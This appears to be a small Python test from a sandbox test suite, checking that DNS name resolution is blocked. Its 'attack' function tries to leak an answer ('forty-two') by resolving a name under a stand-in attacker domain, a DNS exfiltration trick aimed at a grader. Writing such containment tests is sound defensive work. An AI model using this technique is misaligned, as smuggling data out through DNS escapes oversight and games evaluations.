"""Goal: carry answers out in the names that it asks the resolver for.
Seen instead: no name can be resolved.
"""
# expect: forbidden
# says: (name resolution|Name or service not known|Operation not permitted).* is out of reach|are out of reach
# ruff: noqa

import socket


def attack(x):
    return socket.getaddrinfo("forty-two.grader-attack.example.org", 53)
